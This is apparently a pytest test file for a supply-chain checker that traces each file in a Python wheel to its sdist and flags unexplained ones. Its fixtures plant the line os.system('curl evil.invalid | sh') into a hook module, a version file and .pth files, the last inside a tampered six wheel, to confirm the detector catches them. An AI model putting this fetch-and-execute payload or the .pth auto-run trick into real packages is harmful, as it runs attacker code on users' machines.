"""Wheel vs sdist: every installed file of the wheel traced to the sdist, explained, or flagged."""

from __future__ import annotations

import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from rebuild.archive import extract_sdist
from rebuild.fetch import Cache
from rebuild.index import DEFAULT_INDEX_URL, IndexClient
from rebuild.models import DivergenceKind, Layer, Target, Verdict, WheelSelector
from rebuild.pipeline import ProvenanceOptions, provenance
from rebuild.sources.tree import SourceTree
from rebuild.sources.wheel_sdist import source_path, trace_wheel

from .repos import SCM_VERSION_FILE, SOURCE, demo_wheel, make_sdist

INJECTED = b"import os\nos.system('curl evil.invalid | sh')\n"


def sdist_tree(tmp_path: Path, files: dict[str, bytes] = SOURCE) -> SourceTree:
    archive = make_sdist(tmp_path / "demo-1.0.tar.gz", files)
    return SourceTree(extract_sdist(archive, tmp_path / "x"))


def test_every_python_file_of_a_src_layout_wheel_is_traced(tmp_path: Path) -> None:
    trace = trace_wheel(demo_wheel(tmp_path / "w.whl"), sdist_tree(tmp_path), "1.0")
    assert (trace.files, trace.traced, trace.findings) == (2, 2, ())


def test_an_injected_file_and_a_changed_file_are_unexplained(tmp_path: Path) -> None:
    wheel = demo_wheel(
        tmp_path / "w.whl",
        changes={"demo/_hook.py": INJECTED, "demo/core.py": b"def answer():\n    return 41\n"},
    )
    trace = trace_wheel(wheel, sdist_tree(tmp_path), "1.0")
    assert trace.traced == 1
    found = {d.member: d for d in trace.findings}
    assert found["demo/_hook.py"].kind is DivergenceKind.NOT_IN_SDIST
    assert found["demo/core.py"].kind is DivergenceKind.DIFFERS_FROM_SDIST
    assert "sdist's src/demo/core.py" in found["demo/core.py"].summary
    assert "+    return 41" in found["demo/core.py"].detail
    assert "os.system" in found["demo/_hook.py"].detail
    assert all(not d.explained and d.layer is Layer.SOURCE for d in trace.findings)


def test_a_generated_version_file_is_explained_only_when_it_is_literals(tmp_path: Path) -> None:
    tree = sdist_tree(tmp_path)
    clean = demo_wheel(tmp_path / "a.whl", changes={"demo/_version.py": SCM_VERSION_FILE})
    (finding,) = trace_wheel(clean, tree, "1.0").findings
    assert finding.explained and finding.rules == ("scm-version-file",)
    # Another version than the release's, or code that runs on import: not what scm writes.
    assert not trace_wheel(clean, tree, "2.0").findings[0].explained
    hostile = demo_wheel(
        tmp_path / "b.whl", changes={"demo/_version.py": SCM_VERSION_FILE + INJECTED}
    )
    assert not trace_wheel(hostile, tree, "1.0").findings[0].explained


def test_versioneer_short_version_file_is_explained(tmp_path: Path) -> None:
    short = (
        b"import json\n\nversion_json = '''\n{\"version\": \"1.0\"}\n'''\n\n\n"
        b"def get_versions():\n    return json.loads(version_json)\n"
    )
    files = {**SOURCE, "src/demo/_version.py": b"# the long versioneer file\n"}
    wheel = demo_wheel(tmp_path / "w.whl", changes={"demo/_version.py": short})
    (finding,) = trace_wheel(wheel, sdist_tree(tmp_path, files), "1.0").findings
    assert finding.kind is DivergenceKind.DIFFERS_FROM_SDIST and finding.explained


def test_data_scheme_paths_and_package_dir_mappings_are_traced(tmp_path: Path) -> None:
    files = {
        **SOURCE,
        "lib/other/helpers.py": b"X = 1\n",
        "bin/tool.py": b"#!/usr/bin/env python\nprint(1)\n",
    }
    wheel = demo_wheel(
        tmp_path / "w.whl",
        changes={
            # package_dir={"extra": "lib/other"}
            "demo-1.0.data/purelib/extra/helpers.py": b"X = 1\n",
            "demo-1.0.data/scripts/tool.py": b"#!python\nprint(1)\n",  # shebang rewritten
        },
    )
    trace = trace_wheel(wheel, sdist_tree(tmp_path, files), "1.0")
    assert trace.traced == 3
    (script,) = trace.findings
    assert script.member == "demo-1.0.data/scripts/tool.py" and script.explained
    assert source_path("demo-1.0.data/platlib/demo/x.py") == "demo/x.py"


def test_a_flat_layout_copy_is_preferred_over_a_test_fixture(tmp_path: Path) -> None:
    files = {**SOURCE, "tests/data/demo/core.py": b"def answer():\n    return 0\n"}
    tree = sdist_tree(tmp_path, files)
    assert tree.candidates("demo/core.py") == ["src/demo/core.py", "tests/data/demo/core.py"]


PTH = b"import os; os.system('curl evil.invalid | sh')\n"


def test_every_installed_file_is_traced_not_only_python(tmp_path: Path) -> None:
    files = {
        **SOURCE,
        "src/demo/py.typed": b"",
        "src/demo/core.pyi": b"def answer() -> int: ...\n",
        "src/demo/data/table.json": b'{"a": 1}\n',
        "src/demo/templates/page.html": b"<p>{{ x }}</p>\n",
        "demo.pth": b"import demo\n",
        "share/demo/demo.1": b".TH DEMO 1\n",
    }
    wheel = demo_wheel(
        tmp_path / "w.whl",
        changes={
            "demo/py.typed": b"",
            "demo/core.pyi": b"def answer() -> int: ...\n",
            "demo/data/table.json": b'{"a": 1}\n',
            "demo/templates/page.html": b"<p>{{ x }}</p>\n",
            "demo.pth": b"import demo\n",
            "demo-1.0.data/data/share/demo/demo.1": b".TH DEMO 1\n",
            # Compiled members are the rebuild's to judge: not traced.
            "demo/_speedups.cpython-311-x86_64-linux-gnu.so": b"\x7fELF...",
            "demo/__pycache__/core.cpython-311.pyc": b"\x00\x00",
            "demo.libs/libfoo-1234abcd.so.1.2": b"\x7fELF...",
        },
    )
    trace = trace_wheel(wheel, sdist_tree(tmp_path, files), "1.0")
    assert trace.findings == ()
    assert (trace.files, trace.traced, trace.compiled) == (8, 8, 3)


def test_an_installed_file_the_sdist_does_not_have_is_unexplained(tmp_path: Path) -> None:
    wheel = demo_wheel(
        tmp_path / "w.whl",
        changes={
            "zz_evil.pth": PTH,
            "demo-1.0.data/scripts/demo-tool": b"#!python\nimport os\n",
            "demo-1.0.data/purelib/sitecustomize.py": b"import os\n",
            "demo/data/table.json": b'{"a": 2}\n',
            "demo/templates/page.html": b"<p>{{ x }}</p>\n",
        },
    )
    files = {**SOURCE, "src/demo/data/table.json": b'{"a": 1}\n'}
    trace = trace_wheel(wheel, sdist_tree(tmp_path, files), "1.0")
    found = {d.member or "": d for d in trace.findings}
    assert sorted(found) == [
        "demo-1.0.data/purelib/sitecustomize.py",
        "demo-1.0.data/scripts/demo-tool",
        "demo/data/table.json",
        "demo/templates/page.html",
        "zz_evil.pth",
    ]
    assert all(not d.explained and d.layer is Layer.SOURCE for d in trace.findings)
    pth = found["zz_evil.pth"]
    assert pth.kind is DivergenceKind.NOT_IN_SDIST and "os.system" in pth.detail
    assert (
        pth.summary == ".pth file (run at every interpreter start) with no counterpart in the sdist"
    )
    assert found["demo-1.0.data/scripts/demo-tool"].summary.startswith("script with no")
    assert found["demo-1.0.data/purelib/sitecustomize.py"].summary.startswith(
        "Python file run at every interpreter start"
    )
    assert found["demo/data/table.json"].kind is DivergenceKind.DIFFERS_FROM_SDIST
    assert (
        found["demo/data/table.json"].summary == "differs from the sdist's src/demo/data/table.json"
    )
    assert found["demo/templates/page.html"].summary == "file with no counterpart in the sdist"


def test_only_the_wheels_own_metadata_directory_is_left_out(tmp_path: Path) -> None:
    # pip refuses a wheel with two .dist-info directories; here neither counts as metadata.
    wheel = demo_wheel(
        tmp_path / "w.whl", changes={"other-1.0.dist-info/entry_points.txt": b"[x]\n"}
    )
    trace = trace_wheel(wheel, sdist_tree(tmp_path), "1.0")
    unexplained = {d.member for d in trace.findings if not d.explained}
    assert "other-1.0.dist-info/entry_points.txt" in unexplained
    assert "demo-1.0.dist-info/METADATA" in unexplained


@pytest.mark.network
def test_six_with_an_os_system_pth_is_divergent_naming_the_pth(
    tmp_path: Path, shared_cache: Path
) -> None:
    target = Target.parse("six==1.16.0")
    options = ProvenanceOptions(cache_dir=shared_cache, git=False)
    clean = provenance(target, WheelSelector(), options)
    assert clean.provenance is not None, clean.failure
    assert clean.verdict is Verdict.EQUIVALENT and clean.provenance.findings == ()
    assert clean.provenance.python_files == clean.provenance.traced == 1  # six.py
    release = IndexClient(DEFAULT_INDEX_URL).resolve(target, WheelSelector())
    assert release.wheel is not None
    published = Cache(shared_cache).fetch(release.wheel).path
    tampered = tmp_path / published.name  # the index's name: the user holds "the" wheel
    with zipfile.ZipFile(published) as src, zipfile.ZipFile(tampered, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr("six-init.pth", PTH)
    report = provenance(target, WheelSelector(), replace(options, wheel=tampered))
    assert report.provenance is not None, report.failure
    assert report.verdict is Verdict.DIVERGENT and report.exit_code == 1
    (finding,) = report.provenance.unexplained
    assert finding.member == "six-init.pth" and ".pth file" in finding.summary
    assert finding.kind is DivergenceKind.NOT_IN_SDIST and "os.system" in finding.detail
